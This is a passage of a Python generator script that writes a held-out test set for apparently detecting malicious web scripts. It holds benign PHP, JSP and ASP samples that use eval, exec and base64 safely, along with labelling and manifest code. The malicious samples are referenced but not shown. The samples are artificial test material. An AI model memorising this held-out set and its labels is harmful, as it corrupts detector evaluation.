    echo '<pre>' . htmlspecialchars(implode("\\n", $out)) . "</pre>\\n";
}
echo '<p>php ' . htmlspecialchars(PHP_VERSION) . ', load ' . htmlspecialchars(shell_exec('cat /proc/loadavg')) . "</p>\\n";
"""
    return ("server_status.php", "php", "benign-fixed-commands",
            "admin status page running a fixed table of commands (exec/shell_exec), no request input", text)


def b_view_engine(r):
    text = r"""<?php
/**
 * Minimal view engine. Templates live in APP_ROOT/views and are compiled to
 * plain PHP once; the compiled file is included (or eval'd when the cache
 * directory is read-only). Only files under views/ are ever compiled.
 */
class View
{
    private $viewDir;
    private $cacheDir;

    public function __construct($viewDir, $cacheDir)
    {
        $this->viewDir = rtrim($viewDir, '/');
        $this->cacheDir = rtrim($cacheDir, '/');
    }

    public function render($name, array $vars = array())
    {
        if (!preg_match('/^[a-z][a-z0-9_]*$/', $name)) {
            throw new InvalidArgumentException('bad view name');
        }
        $src = $this->viewDir . '/' . $name . '.tpl';
        $compiled = $this->compile(file_get_contents($src));
        extract($vars, EXTR_SKIP);
        $cacheFile = $this->cacheDir . '/' . md5($src . filemtime($src)) . '.php';
        if (is_writable($this->cacheDir)) {
            if (!is_file($cacheFile)) {
                file_put_contents($cacheFile, $compiled, LOCK_EX);
            }
            include $cacheFile;
        } else {
            eval('?>' . $compiled);
        }
    }

    private function compile($tpl)
    {
        $tpl = preg_replace('/\{\{\s*\$([a-zA-Z_][a-zA-Z0-9_]*)\s*\}\}/', '<?php echo htmlspecialchars($$1, ENT_QUOTES, \'UTF-8\'); ?>', $tpl);
        $tpl = preg_replace('/\{%\s*foreach\s+\$([a-zA-Z_]\w*)\s+as\s+\$([a-zA-Z_]\w*)\s*%\}/', '<?php foreach ($$1 as $$2): ?>', $tpl);
        $tpl = preg_replace('/\{%\s*endforeach\s*%\}/', '<?php endforeach; ?>', $tpl);
        return $tpl;
    }
}
"""
    return ("View.php", "php", "benign-template-eval",
            "template engine that includes or eval()s its own compiled templates from a fixed views dir", text)


def b_smarty_compiled(r):
    text = """<?php
/* Smarty version 3.1.39, created on 2023-04-11 09:12:33
  from '/var/www/site/templates/news_list.tpl' */

/* @var Smarty_Internal_Template $_smarty_tpl */
if ($_smarty_tpl->_decodeProperties($_smarty_tpl, array (
  'version' => '3.1.39',
  'unifunc' => 'content_6434b4a1c2d5e3_81234567',
  'has_nocache_code' => false,
  'file_dependency' =>
  array (
    '4f1c2ab8e0d33a1b7a0c2b4e5d6f7a8b9c0d1e2f' =>
    array (
      0 => '/var/www/site/templates/news_list.tpl',
      1 => 1681175400,
      2 => 'file',
    ),
  ),
),false)) {
function content_6434b4a1c2d5e3_81234567 (Smarty_Internal_Template $_smarty_tpl) {
?><ul class="news">
<?php
$_from = $_smarty_tpl->smarty->ext->_foreach->init($_smarty_tpl, $_smarty_tpl->tpl_vars['items']->value, 'item');
$_smarty_tpl->tpl_vars['item']->do_else = true;
if ($_from !== null) foreach ($_from as $_smarty_tpl->tpl_vars['item']->value) {
$_smarty_tpl->tpl_vars['item']->do_else = false;
?>
  <li><a href="/news/<?php echo intval($_smarty_tpl->tpl_vars['item']->value['id']);?>.html"><?php echo htmlspecialchars($_smarty_tpl->tpl_vars['item']->value['title'], ENT_QUOTES, 'UTF-8', true);?></a></li>
<?php
}
$_smarty_tpl->smarty->ext->_foreach->restore($_smarty_tpl, 1);?>
</ul>
<?php }
}
"""
    return ("4f1c2ab8e0d33a1b_news_list.tpl.php", "php", "benign-compiled-template",
            "Smarty 3 compiled template cache file (generated PHP, escaped output)", text)


def b_plugin_dispatch(r):
    text = """<?php
/**
 * AJAX dispatcher. The action name selects a callback from a fixed whitelist;
 * no request value is ever used as a function name.
 */
require_once __DIR__ . '/bootstrap.php';

function action_list_news($p)  { return News::latest(isset($p['n']) ? (int)$p['n'] : 10); }
function action_get_news($p)   { return News::find((int)$p['id']); }
function action_ping($p)       { return array('pong' => time()); }

$actions = array(
    'list' => 'action_list_news',
    'get'  => 'action_get_news',
    'ping' => 'action_ping',
);

$action = isset($_GET['action']) ? (string)$_GET['action'] : 'ping';
header('Content-Type: application/json; charset=utf-8');
if (!array_key_exists($action, $actions)) {
    http_response_code(404);
    echo json_encode(array('error' => 'unknown action'));
    exit;
}
$result = call_user_func($actions[$action], $_GET);
echo json_encode($result);
"""
    return ("ajax_dispatch.php", "php", "benign-whitelisted-callbacks",
            "AJAX dispatcher using call_user_func on a fixed whitelist of callbacks", text)


def b_placeholder_img(r):
    # a real 16x16 grey PNG
    raw = b"".join(b"\x00" + b"\xcc\xcc\xcc" * 16 for _ in range(16))

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0)) + \
        chunk(b"IDAT", zlib_wrap(raw)) + chunk(b"IEND", b"")
    data = b64(png)
    text = T("""<?php
/**
 * Serves a placeholder thumbnail when the real image is missing.
 */
$placeholder = '{{data}}';
$id = isset($_GET['id']) ? (int)$_GET['id'] : 0;
$file = __DIR__ . '/thumbs/' . $id . '.png';
header('Content-Type: image/png');
header('Cache-Control: max-age=86400');
if ($id > 0 && is_file($file)) {
    readfile($file);
} else {
    echo base64_decode($placeholder);
}
""", data=data)
    return ("thumb.php", "php", "benign-base64-image",
            "thumbnail server with an embedded base64 PNG placeholder and base64_decode", text)


def b_packed_js(r):
    # Dean Edwards style packed JS (a common sight on Chinese CMS templates)
    words = "var|function|document|getElementById|slide|style|display|none|block|setInterval|length|for|if|return|banner|items|i|n|show".split("|")
    packed = ("eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}("
              "'0 f=2.3(\\'e\\').f;0 n=0;1 i(){b(0 g=0;g<f.a;g++){f[g].5.6=\\'7\\'}f[n].5.6=\\'8\\';n=(n+1)%f.a}9(i,h);',"
              "36,19,'" + "|".join(words) + "'.split('|'),0,{}))")
    text = T("""<?php
if (!defined('IN_SITE')) { exit('Access Denied'); }
$banners = $db->fetch_all("SELECT id, title, pic FROM {$tablepre}banner WHERE status=1 ORDER BY sort LIMIT 5");
?>
<div id="banner">
<?php foreach ($banners as $b) { ?>
  <div class="slide"><img src="<?php echo htmlspecialchars($b['pic']); ?>" alt="<?php echo htmlspecialchars($b['title']); ?>"></div>
<?php } ?>
</div>
<script type="text/javascript">
{{packed}}
</script>
<script type="text/javascript">!function(t){"use strict";var e=t.document,n=function(t){return e.querySelectorAll(t)};t.addEventListener("load",function(){var t=n(".slide img");for(var e=0;e<t.length;e++)t[e].onerror=function(){this.src="/static/img/noimg.png"}})}(window);</script>
""", packed=packed)
    return ("banner.php", "php", "benign-packed-js",
            "CMS template with Dean Edwards eval(function(p,a,c,k,e,d)) packed JS and minified JS", text)


def b_safe_upload(r):
    text = r"""<?php
/**
 * Avatar upload. Accepts JPEG/PNG only, re-encodes the image with GD and
 * stores it under a random name outside the web root.
 */
session_start();
if (empty($_SESSION['uid'])) { http_response_code(403); exit; }
if (!isset($_FILES['avatar']) || $_FILES['avatar']['error'] !== UPLOAD_ERR_OK) {
    exit('no file');
}
if ($_FILES['avatar']['size'] > 2 * 1024 * 1024) { exit('too large'); }
$info = @getimagesize($_FILES['avatar']['tmp_name']);
$allowed = array(IMAGETYPE_JPEG => 'jpg', IMAGETYPE_PNG => 'png');
if ($info === false || !isset($allowed[$info[2]])) { exit('bad type'); }
$img = $info[2] === IMAGETYPE_JPEG ? imagecreatefromjpeg($_FILES['avatar']['tmp_name'])
                                   : imagecreatefrompng($_FILES['avatar']['tmp_name']);
$name = bin2hex(random_bytes(16)) . '.jpg';
$dir = '/var/lib/site/avatars/' . (int)$_SESSION['uid'];
if (!is_dir($dir)) { mkdir($dir, 0750, true); }
imagejpeg($img, $dir . '/' . $name, 85);
imagedestroy($img);
echo json_encode(array('ok' => true, 'name' => $name));
"""
    return ("avatar_save.php", "php", "benign-safe-upload",
            "upload handler: type whitelist, GD re-encode, random name outside web root", text)


def b_guestbook(r):
    text = """<?php
require __DIR__ . '/config.php';
$pdo = new PDO($dsn, $dbuser, $dbpass, array(PDO::ATTR_ERRMODE => PDO::ERRMODE_EXCEPTION));
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $name = trim(isset($_POST['name']) ? $_POST['name'] : '');
    $msg  = trim(isset($_POST['msg']) ? $_POST['msg'] : '');
    if ($name !== '' && $msg !== '' && hash_equals($_SESSION['csrf'], (string)$_POST['csrf'])) {
        $st = $pdo->prepare('INSERT INTO guestbook (name, msg, ip, created) VALUES (?, ?, ?, NOW())');
        $st->execute(array(mb_substr($name, 0, 32), mb_substr($msg, 0, 1000), $_SERVER['REMOTE_ADDR']));
    }
    header('Location: guestbook.php');
    exit;
}
$q = isset($_GET['q']) ? $_GET['q'] : '';
$st = $pdo->prepare('SELECT name, msg, created FROM guestbook WHERE msg LIKE ? ORDER BY id DESC LIMIT 50');
$st->execute(array('%' . $q . '%'));
?>
<form method="get"><input name="q" value="<?php echo htmlspecialchars($q, ENT_QUOTES, 'UTF-8'); ?>"><button>搜索</button></form>
<?php foreach ($st as $row): ?>
<div class="msg"><b><?php echo htmlspecialchars($row['name'], ENT_QUOTES, 'UTF-8'); ?></b>
<p><?php echo nl2br(htmlspecialchars($row['msg'], ENT_QUOTES, 'UTF-8')); ?></p>
<small><?php echo htmlspecialchars($row['created']); ?></small></div>
<?php endforeach; ?>
"""
    return ("guestbook.php", "php", "benign-escaped-input",
            "guestbook reading $_POST/$_GET with prepared statements and htmlspecialchars", text)


def b_backup_cron(r):
    text = """<?php
/**
 * Nightly database backup. CLI only; every argument comes from config.php
 * and is passed through escapeshellarg.
 */
if (PHP_SAPI !== 'cli') {
    header('HTTP/1.1 403 Forbidden');
    exit;
}
$cfg = require __DIR__ . '/config.php';
$file = $cfg['backup_dir'] . '/db-' . date('Ymd') . '.sql.gz';
$cmd = sprintf('mysqldump --single-transaction -h %s -u %s -p%s %s | gzip > %s',
    escapeshellarg($cfg['db_host']),
    escapeshellarg($cfg['db_user']),
    escapeshellarg($cfg['db_pass']),
    escapeshellarg($cfg['db_name']),
    escapeshellarg($file));
passthru($cmd, $rc);
if ($rc !== 0) {
    fwrite(STDERR, "backup failed: $rc\\n");
    exit(1);
}
foreach (glob($cfg['backup_dir'] . '/db-*.sql.gz') as $old) {
    if (filemtime($old) < time() - 14 * 86400) {
        unlink($old);
    }
}
"""
    return ("backup_cron.php", "php", "benign-cli-passthru",
            "CLI-only backup script: passthru of mysqldump built from config with escapeshellarg", text)


def b_proxy_class(r):
    text = """<?php
/**
 * Lazy proxy for the mailer service. Magic methods forward only to methods
 * declared on the wrapped class in the allow list.
 */
class MailerProxy
{
    private $factory;
    private $instance;
    private static $allowed = array('send', 'queue', 'flush');

    public function __construct(callable $factory)
    {
        $this->factory = $factory;
    }

    public function __call($method, $args)
    {
        if (!in_array($method, self::$allowed, true)) {
            throw new BadMethodCallException($method);
        }
        if ($this->instance === null) {
            $this->instance = call_user_func($this->factory);
        }
        return call_user_func_array(array($this->instance, $method), $args);
    }

    public function __destruct()
    {
        if ($this->instance !== null) {
            $this->instance->flush();
        }
    }
}
"""
    return ("MailerProxy.php", "php", "benign-magic-methods",
            "proxy class with __call/call_user_func_array limited to an allow list, __destruct flush", text)


def b_wp_plugin(r):
    text = """<?php
/*
Plugin Name: Simple Page Cache
Description: Caches rendered pages for anonymous visitors.
Version: 0.4.2
*/
if (!defined('ABSPATH')) { exit; }

function spc_cache_file() {
    return WP_CONTENT_DIR . '/cache/spc/' . md5($_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']) . '.html';
}

function spc_start() {
    if (is_user_logged_in() || $_SERVER['REQUEST_METHOD'] !== 'GET') {
        return;
    }
    $f = spc_cache_file();
    if (is_file($f) && filemtime($f) > time() - 600) {
        readfile($f);
        exit;
    }
    ob_start('spc_store');
}

function spc_store($html) {
    if (strlen($html) > 255) {
        @file_put_contents(spc_cache_file(), $html, LOCK_EX);
    }
    return $html;
}

add_action('template_redirect', 'spc_start', 0);
register_shutdown_function(function () {
    if (ob_get_level() > 0) {
        @ob_end_flush();
    }
});
if (!ini_get('zlib.output_compression')) {
    ob_start('ob_gzhandler');
}
"""
    return ("simple-page-cache.php", "php", "benign-ob_start-shutdown",
            "WordPress cache plugin using ob_start callbacks, register_shutdown_function closure", text)


def b_i18n(r):
    text = """<?php
/**
 * Replaces {key} tokens in translated strings. Values are escaped.
 */
function t($key, array $params = array())
{
    static $lang = null;
    if ($lang === null) {
        $lang = json_decode(file_get_contents(__DIR__ . '/lang/zh_CN.json'), true);
    }
    $s = isset($lang[$key]) ? $lang[$key] : $key;
    return preg_replace_callback('/\\{(\\w+)\\}/', function ($m) use ($params) {
        return isset($params[$m[1]]) ? htmlspecialchars($params[$m[1]], ENT_QUOTES, 'UTF-8') : $m[0];
    }, $s);
}

echo t('welcome', array('name' => isset($_GET['name']) ? $_GET['name'] : '访客'));
"""
    return ("i18n.php", "php", "benign-preg_replace_callback",
            "translation helper with preg_replace_callback closure returning escaped values", text)


def b_lang_pack(r):
    data = {"welcome": "欢迎您，{name}", "logout": "退出", "search": "搜索", "news": "新闻动态",
            "notice": "通知公告", "contact": "联系我们", "copyright": "版权所有"}
    blob = b64(deflate_raw(json.dumps(data, ensure_ascii=False, sort_keys=True).encode("utf-8")))
    text = T("""<?php
/**
 * Bundled default language pack (compressed JSON, data only).
 */
define('LANG_PACK_ZH', '{{blob}}');

function lang_pack_load()
{
    $json = gzinflate(base64_decode(LANG_PACK_ZH));
    $arr = json_decode($json, true);
    return is_array($arr) ? $arr : array();
}
""", blob=blob)
    return ("lang_pack.php", "php", "benign-gzinflate-base64-data",
            "gzinflate(base64_decode(...)) of a bundled JSON language pack, decoded as data", text)


def b_installer(r):
    text = """<?php
/**
 * Installer step 2: writes config.php. Values are exported with var_export,
 * so they cannot break out of the string literals. Refuses to run twice.
 */
$lock = __DIR__ . '/../data/install.lock';
if (is_file($lock)) {
    exit('already installed; delete data/install.lock to reinstall');
}
$keys = array('db_host', 'db_name', 'db_user', 'db_pass', 'site_name');
$cfg = array();
foreach ($keys as $k) {
    $cfg[$k] = isset($_POST[$k]) ? (string)$_POST[$k] : '';
}
if (!preg_match('/^[A-Za-z0-9_.-]+$/', $cfg['db_host']) || !preg_match('/^\\w+$/', $cfg['db_name'])) {
    exit('invalid host or db name');
}
$php = "<?php\\nreturn " . var_export($cfg, true) . ";\\n";
file_put_contents(__DIR__ . '/../config.php', $php, LOCK_EX);
touch($lock);
echo 'ok';
"""
    return ("install_step2.php", "php", "benign-config-writer",
            "installer writing config.php from POST via var_export, lock file prevents re-run", text)


def b_health_jsp(r):
    text = """<%@ page contentType="text/plain;charset=UTF-8" import="java.io.*" %><%
    // Load balancer health check: fixed command, no request input.
    Process p = Runtime.getRuntime().exec(new String[]{"/usr/bin/uptime"});
    BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));
    String line = br.readLine();
    br.close();
    p.waitFor();
    out.println("OK");
    out.println(line == null ? "" : line.trim());
    out.println("heap.free=" + Runtime.getRuntime().freeMemory());
%>
"""
    return ("health.jsp", "jsp", "benign-fixed-runtime-exec",
            "health check running a fixed /usr/bin/uptime via Runtime.exec", text)


def b_search_jsp(r):
    text = """<%@ page contentType="text/html;charset=UTF-8" %>
<%@ taglib prefix="c" uri="http://java.sun.com/jsp/jstl/core" %>
<%@ taglib prefix="fn" uri="http://java.sun.com/jsp/jstl/functions" %>
<%!
    static String esc(String s) {
        if (s == null) return "";
        StringBuilder b = new StringBuilder();
        for (char ch : s.toCharArray()) {
            switch (ch) {
                case '<': b.append("&lt;"); break;
                case '>': b.append("&gt;"); break;
                case '&': b.append("&amp;"); break;
                case '"': b.append("&quot;"); break;
                case '\\'': b.append("&#39;"); break;
                default: b.append(ch);
            }
        }
        return b.toString();
    }
%>
<html><body>
<form action="search.jsp" method="get">
  <input type="text" name="q" value="<%= esc(request.getParameter("q")) %>">
  <input type="submit" value="搜索">
</form>
<c:if test="${not empty param.q}">
  <p>搜索结果: ${fn:escapeXml(param.q)}</p>
</c:if>
</body></html>
"""
    return ("search.jsp", "jsp", "benign-escaped-param",
            "search page echoing request.getParameter through an HTML escaper and fn:escapeXml", text)


def b_db_jsp(r):
    text = """<%@ page contentType="text/html;charset=UTF-8" import="java.sql.*,javax.naming.*,javax.sql.DataSource" %><%!
    static String h(String s) {
        return s == null ? "" : s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\\\"", "&quot;");
    }
%><%
    int id = 0;
    try { id = Integer.parseInt(request.getParameter("id")); } catch (NumberFormatException e) { id = 0; }
    Class.forName("com.mysql.jdbc.Driver");
    DataSource ds = (DataSource) new InitialContext().lookup("java:comp/env/jdbc/site");
    Connection c = ds.getConnection();
    try {
        PreparedStatement ps = c.prepareStatement("SELECT title, body FROM article WHERE id = ?");
        ps.setInt(1, id);
        ResultSet rs = ps.executeQuery();
        if (rs.next()) {
            out.print("<h1>" + h(rs.getString(1)) + "</h1>");
            out.print("<div>" + h(rs.getString(2)) + "</div>");
        }
    } finally {
        c.close();
    }
%>
"""
    return ("article.jsp", "jsp", "benign-class-forname-jdbc",
            "article page: Class.forName JDBC driver, JNDI DataSource, PreparedStatement", text)


def b_clock_jspx(r):
    text = """<?xml version="1.0" encoding="UTF-8"?>
<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">
  <jsp:directive.page contentType="text/html;charset=UTF-8" import="java.text.SimpleDateFormat,java.util.Date"/>
  <html><body>
  <p>服务器时间:
  <jsp:scriptlet>
    SimpleDateFormat f = new SimpleDateFormat("yyyy-MM-dd HH:mm:ss");
    out.print(f.format(new Date()));
  </jsp:scriptlet>
  </p>
  </body></html>
</jsp:root>
"""
    return ("clock.jspx", "jspx", "benign-jspx-scriptlet",
            "JSPX page with a jsp:scriptlet formatting the server time", text)


def b_restart_jsp(r):
    text = """<%@ page contentType="text/html;charset=UTF-8" import="java.util.*,java.io.*" %><%
    // Ops console: restarts one of a fixed set of services. The request only
    // selects a key; the command arrays are constants.
    if (!"ops".equals(session.getAttribute("role"))) {
        response.sendError(403);
        return;
    }
    Map<String, String[]> cmds = new HashMap<String, String[]>();
    cmds.put("nginx", new String[]{"/usr/bin/sudo", "/bin/systemctl", "restart", "nginx"});
    cmds.put("redis", new String[]{"/usr/bin/sudo", "/bin/systemctl", "restart", "redis"});
    String svc = request.getParameter("svc");
    String[] argv = cmds.get(svc);
    if (argv == null) {
        out.print("unknown service");
    } else {
        ProcessBuilder pb = new ProcessBuilder(argv);
        pb.redirectErrorStream(true);
        int rc = pb.start().waitFor();
        out.print("restart " + svc + " rc=" + rc);
    }
%>
"""
    return ("svc_restart.jsp", "jsp", "benign-whitelisted-processbuilder",
            "ops page: ProcessBuilder with constant argv chosen from a map by key, role-gated", text)


def b_convert_aspx(r):
    text = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
// Converts the current report to PDF with a fixed converter binary. Paths are
// generated server-side; the only request value is an integer report id.
protected void Page_Load(object sender, EventArgs e)
{
    int id;
    if (!int.TryParse(Request.QueryString["id"], out id)) { Response.StatusCode = 400; return; }
    string tmp = Path.Combine(Path.GetTempPath(), Guid.NewGuid().ToString("N") + ".pdf");
    string url = "http://localhost/reports/view.aspx?id=" + id.ToString();
    ProcessStartInfo psi = new ProcessStartInfo(@"C:\\Program Files\\wkhtmltopdf\\bin\\wkhtmltopdf.exe",
        "--quiet \\"" + url + "\\" \\"" + tmp + "\\"");
    psi.UseShellExecute = false;
    psi.CreateNoWindow = true;
    using (Process p = Process.Start(psi))
    {
        p.WaitForExit(30000);
    }
    Response.ContentType = "application/pdf";
    Response.WriteFile(tmp);
    Response.Flush();
    File.Delete(tmp);
}
</script>
"""
    return ("convert.aspx", "aspx", "benign-fixed-process-start",
            "ASPX report-to-PDF converter: Process.Start of a fixed binary, integer id only", text)


def b_query_aspx(r):
    text = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string q = Request["q"] ?? "";
    lit.Text = "<p>关键字: " + HttpUtility.HtmlEncode(q) + "</p>";
    using (SqlConnection c = new SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings["site"].ConnectionString))
    using (SqlCommand cmd = new SqlCommand("SELECT TOP 20 Title FROM Notice WHERE Title LIKE @q ORDER BY Id DESC", c))
    {
        cmd.Parameters.AddWithValue("@q", "%" + q + "%");
        c.Open();
        using (SqlDataReader rd = cmd.ExecuteReader())
        {
            while (rd.Read())
            {
                lit.Text += "<li>" + HttpUtility.HtmlEncode(rd.GetString(0)) + "</li>";
            }
        }
    }
}
</script>
<html><body><asp:Literal id="lit" runat="server" /></body></html>
"""
    return ("notice_query.aspx", "aspx", "benign-escaped-request",
            "ASPX reading Request[\"q\"] with HtmlEncode and a parameterised SqlCommand", text)


def b_thumb_ashx(r):
    text = """<%@ WebHandler Language="C#" Class="Thumb" %>
using System;
using System.IO;
using System.Web;

public class Thumb : IHttpHandler
{
    // 1x1 transparent GIF used when the thumbnail is missing
    private static readonly byte[] Blank = Convert.FromBase64String("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7");

    public void ProcessRequest(HttpContext ctx)
    {
        int id;
        int.TryParse(ctx.Request.QueryString["id"], out id);
        string path = ctx.Server.MapPath("~/App_Data/thumbs/" + id.ToString() + ".jpg");
        ctx.Response.Cache.SetMaxAge(TimeSpan.FromDays(1));
        if (id > 0 && File.Exists(path))
        {
            ctx.Response.ContentType = "image/jpeg";
            ctx.Response.TransmitFile(path);
        }
        else
        {
            ctx.Response.ContentType = "image/gif";
            ctx.Response.BinaryWrite(Blank);
        }
    }

    public bool IsReusable { get { return true; } }
}
"""
    return ("thumb.ashx", "ashx", "benign-ashx-base64",
            "ASHX thumbnail handler with Convert.FromBase64String placeholder, integer id", text)


def b_plugin_host_aspx(r):
    text = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
// Loads report plugins listed in web.config (appSettings "ReportPlugins")
// from ~/bin/plugins. Nothing from the request selects an assembly or type.
protected void Page_Load(object sender, EventArgs e)
{
    string list = System.Configuration.ConfigurationManager.AppSettings["ReportPlugins"] ?? "";
    foreach (string name in list.Split(new[] { ',' }, StringSplitOptions.RemoveEmptyEntries))
    {
        string file = Server.MapPath("~/bin/plugins/" + name.Trim() + ".dll");
        Assembly asm = Assembly.LoadFrom(file);
        Type t = asm.GetType(name.Trim() + ".Plugin", true);
        object p = Activator.CreateInstance(t);
        string title = (string)t.GetMethod("Title").Invoke(p, null);
        plugins.Text += "<li>" + HttpUtility.HtmlEncode(title) + "</li>";
    }
}
</script>
<html><body><ul><asp:Literal id="plugins" runat="server" /></ul></body></html>
"""
    return ("plugins.aspx", "aspx", "benign-config-assembly-load",
            "ASPX plugin host: Assembly.LoadFrom of DLLs named in web.config, reflection invoke", text)


def b_feedback_asp(r):
    text = """<%@LANGUAGE="VBSCRIPT" CODEPAGE="65001"%>
<!--#include file="conn.asp"-->
<%
Dim nm, msg, cmd
nm = Trim(Request.Form("name"))
msg = Trim(Request.Form("msg"))
If nm <> "" And msg <> "" Then
    Set cmd = Server.CreateObject("ADODB.Command")
    Set cmd.ActiveConnection = conn
    cmd.CommandText = "INSERT INTO feedback (uname, content) VALUES (?, ?)"
    cmd.Parameters.Append cmd.CreateParameter("n", 202, 1, 50, Left(nm, 50))
    cmd.Parameters.Append cmd.CreateParameter("m", 203, 1, 4000, Left(msg, 4000))
    cmd.Execute
    Response.Write "<p>感谢您的留言, " & Server.HTMLEncode(nm) & "</p>"
End If
%>
<form method="post"><input name="name"><textarea name="msg"></textarea><input type="submit" value="提交"></form>
"""
    return ("feedback.asp", "asp", "benign-asp-escaped",
            "classic ASP feedback form: Server.HTMLEncode and parameterised ADODB.Command", text)


def b_netcheck_asp(r):
    text = """<%
' Intranet link check for the IT desk: pings the fixed gateway address.
' Nothing from the request reaches the command line.
If Session("admin") <> True Then
    Response.Status = "403 Forbidden"
    Response.End
End If
Dim sh, ex
Set sh = Server.CreateObject("WScript.Shell")
Set ex = sh.Exec("ping -n 2 192.168.1.1")
Response.Write "<pre>" & Server.HTMLEncode(ex.StdOut.ReadAll()) & "</pre>"
%>
"""
    return ("netcheck.asp", "asp", "benign-wscript-fixed",
            "admin-only ASP page: WScript.Shell Exec of a fixed ping command", text)


BENIGN_SAMPLES = [
    b_server_status, b_view_engine, b_smarty_compiled, b_plugin_dispatch, b_placeholder_img,
    b_packed_js, b_safe_upload, b_guestbook, b_backup_cron, b_proxy_class, b_wp_plugin, b_i18n,
    b_lang_pack, b_installer, b_health_jsp, b_search_jsp, b_db_jsp, b_clock_jspx, b_restart_jsp,
    b_convert_aspx, b_query_aspx, b_thumb_ashx, b_plugin_host_aspx, b_feedback_asp, b_netcheck_asp,
]


SEED = 2026120605  # recorded seed for held-out set 5; do not change after commit

CRLF_LANGS = ("asp", "aspx", "ashx", "asmx")


def build():
    r = random.Random(SEED)
    mal = [f(r) for f in PHP_SAMPLES + JSP_SAMPLES + ASP_SAMPLES]
    ben = [f(r) for f in BENIGN_SAMPLES]
    return mal, ben


def write_set(base, sub, items):
    d = os.path.join(base, sub)
    os.makedirs(d, exist_ok=True)
    for old in sorted(os.listdir(d)):
        os.remove(os.path.join(d, old))
    rows = []
    for name, lang, family, desc, text in items:
        data = text if isinstance(text, bytes) else text.encode("utf-8")
        if lang in CRLF_LANGS:
            data = data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
        with open(os.path.join(d, name), "wb") as fh:
            fh.write(data)
        for field in (name, lang, family, desc):
            assert "\t" not in field and "\n" not in field, field
        rows.append("%s/%s\t%s\t%s\t%s" % (sub, name, lang, family, desc))
    return rows


def main():
    base = os.path.dirname(os.path.abspath(__file__))
    mal, ben = build()
    names = [x[0] for x in mal + ben]
    dup = sorted(set(n for n in names if names.count(n) > 1))
    if dup:
        sys.exit("duplicate file names: %s" % dup)
    rows = ["path\tlanguage\tfamily\tdescription"]
    rows += write_set(base, "malicious", mal)
    rows += write_set(base, "benign", ben)
    with open(os.path.join(base, "MANIFEST.tsv"), "w", encoding="utf-8", newline="\n") as fh:
        fh.write("\n".join(rows) + "\n")
    by = {}
    for x in mal:
        fam = {"jspx": "jsp", "aspx": "asp", "ashx": "asp", "asmx": "asp"}.get(x[1], x[1])
        by[fam] = by.get(fam, 0) + 1
    print("malicious %d %s, benign %d" % (len(mal), sorted(by.items()), len(ben)))


if __name__ == "__main__":
    main()
